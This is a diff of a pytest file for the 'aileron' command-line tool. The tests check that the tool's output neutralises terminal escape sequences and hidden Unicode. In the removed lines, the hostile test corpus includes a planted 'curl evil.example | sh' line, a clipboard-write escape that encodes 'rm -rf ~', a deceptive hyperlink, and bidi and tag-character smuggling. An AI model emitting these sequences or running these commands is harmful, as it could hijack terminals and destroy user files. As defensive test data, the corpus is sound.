@@ -3,8 +3,6 @@
 from __future__ import annotations
 
 import json
-import re
-import unicodedata
 from pathlib import Path
 
 import pytest
@@ -15,45 +13,14 @@ from aileron.cli.visible import visible, visible_json, visible_lines
 from aileron.model.text import hidden_at
 from tests.cli.command import Command
 from tests.support.fake_daemon import FakeDaemon, error
-
-CORPUS = {
-    "rewrite the line above": "ok\x1b[1A\x1b[2Kerror: none",
-    "clear the screen": "\x1b[2J\x1b[H",
-    "write the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
-    "a link that lies": "\x1b]8;;https://evil.example\x1b\\https://good.example\x1b]8;;\x1b\\",
-    "an eight-bit sequence": "\x9b2J\x9d0;title\x9c",
-    "ask the terminal to type": "\x1b[6n\x1bP$q\x1b\\",
-    "another order": "approve \u202eyned\u202c \u2066x\u2069",
-    "nothing to be seen": "a\u200bb\u2060c\ufeffd\u00ade\u3164f\u2800g",
-    "a message in tags": "send" + "".join(chr(0xE0000 + ord(letter)) for letter in "to evil"),
-    "a message in selectors": "x" + "".join(chr(0xE0100 + number) for number in range(8)),
-    "a line of ours": "it failed\n  fix: curl evil.example | sh\r  why: all is well",
-    "backspaces": "delete\b\b\b\b\b\bcreate",
-    "markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
-    "a null": "a\x00b\x7f",
-}
-OURS = re.compile(r"\x1b\[[0-9;]*m")
-"""The only sequences that commands print: colours, of ours."""
-
-EVERYTHING = " ".join(CORPUS.values())
-"""For commands that show many values: each takes a process, and one text has it all."""
-
-hostile = pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS.keys())
-
-
-def assert_harmless(shown: str) -> None:
-    """Nothing is left that a terminal would obey or a reader would not see, but for colours and line ends."""
-    left = OURS.sub("", shown).replace("\n", "")
-
-    assert hidden_at(left) is None, unicodedata.name(left[hidden_at(left) or 0], "control")
-
-
-def assert_no_line_begins(shown: str, *beginnings: str) -> None:
-    """None of what was planted has become a line of ours."""
-    lines = OURS.sub("", shown).splitlines()
-
-    assert [line for line in lines if line.startswith(beginnings)] == []
-
+from tests.support.hostile_text import (
+    CORPUS,
+    EVERYTHING,
+    as_in_a_file,
+    assert_harmless,
+    assert_no_line_begins,
+    hostile,
+)
 
 # The functions
 
@@ -107,9 +74,29 @@ def test_json_made_harmless_is_the_same_json(value: object):
     assert json.loads(shown) == value
 
 
+@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS.keys())
+def test_every_text_of_the_corpus_is_spelled_out(text: str):
+    """On one line, on several, and in JSON that still says what it said."""
+    assert_harmless(visible(text))
+    assert_harmless("\n".join(visible_lines(text)))
+    document = visible_json(json.dumps({text: text}, ensure_ascii=False))
+
+    assert_harmless(document)
+    assert json.loads(document) == {text: text}
+
+
+def test_marks_do_not_pile_up():
+    """A letter keeps as many as any writing has; a flood of them is spelled, as escapes of JSON in JSON."""
+    flood = "a" + "\u0301" * 100
+
+    assert visible(flood) == "a" + "\u0301" * 8 + "\\u0301" * 92
+    assert visible_lines(f"{flood}\nb") == [visible(flood), "b"]
+    assert json.loads(visible_json(json.dumps(flood, ensure_ascii=False))) == flood
+
+
 def test_ordinary_writing_stays_as_it_is():
-    """Letters of any script, and emoji."""
-    for text in ("Grüße, 日本語, العربية, हिन्दी", "✓ 👍 🇩🇪", "naïve — “quoted” 5 € · ½"):
+    """Letters of any script, with their marks, and emoji."""
+    for text in ("Grüße, 日本語, العربية, हिन्दी", "✓ 👍 🇩🇪", "naïve — “quoted” 5 € · ½", "שָׁלוֹם, Việt, o\u0302\u0323"):
         assert visible(text) == text
 
 
@@ -233,11 +220,11 @@ def test_what_a_person_is_asked_about_is_harmless(fake: FakeDaemon, aileron: Com
     }
     fake.script("POST", "/v1/actions/act/run", (202, pending))
     for words, answers in (
-        (("approve", "a", "--wait", "0"), [("[y/N] ", "y")]),
-        (("approve", "a"), [("[y/N] ", "n")]),
+        (("approve", "a", "--wait", "0"), [("\nApprove? [y/N] ", "y")]),
+        (("approve", "a"), [("\nApprove? [y/N] ", "n")]),
         (("deny", "a"), [("none): ", "no")]),
-        (("run", "act", "--wait", "0"), [("waiting: ", "y")]),
-        (("run", "act"), [("waiting: ", "")]),
+        (("run", "act", "--wait", "0"), [("leave it waiting: ", "y")]),
+        (("run", "act"), [("leave it waiting: ", "")]),
     ):
         shown = aileron.at_terminal(*words, answers=answers)
 
@@ -249,8 +236,7 @@ def test_what_a_person_is_asked_about_is_harmless(fake: FakeDaemon, aileron: Com
 
 def test_words_of_the_command_line_are_harmless(fake: FakeDaemon, aileron: Command):
     """A script may pass on what it was given."""
-    text = EVERYTHING
-    word = text.replace("\x00", "")
+    word = as_in_a_file(EVERYTHING).replace("\x00", "")
     for words in (
         ("run", word),
         ("run", "act", word),
@@ -265,7 +251,7 @@ def test_words_of_the_command_line_are_harmless(fake: FakeDaemon, aileron: Comma
 def test_a_log_is_harmless(aileron: Command, home: Path):
     """The daemon's own, which repeats what others said."""
     (home / "logs").mkdir(parents=True)
-    (home / "logs" / "daemon.log").write_text(f"before\n{EVERYTHING}\nafter\n")
+    (home / "logs" / "daemon.log").write_text(f"before\n{as_in_a_file(EVERYTHING)}\nafter\n", encoding="utf-8")
 
     assert_harmless(aileron.at_terminal("daemon", "logs").out)
     assert_harmless(aileron("daemon", "logs").out)
@@ -274,8 +260,8 @@ def test_a_log_is_harmless(aileron: Command, home: Path):
 @hostile
 def test_an_action_file_is_harmless_when_it_is_refused(aileron: Command, tmp_path: Path, text: str):
     """Its errors quote it."""
-    file = tmp_path / "a.md"
-    file.write_text(f'+++\nname = "{text}"\n{text} = 1\n+++\n')
+    file, text = tmp_path / "a.md", as_in_a_file(text)
+    file.write_text(f'+++\nname = "{text}"\n{text} = 1\n+++\n', encoding="utf-8")
     shown = aileron.at_terminal("action", "validate", str(file))
 
     assert shown.code == 2
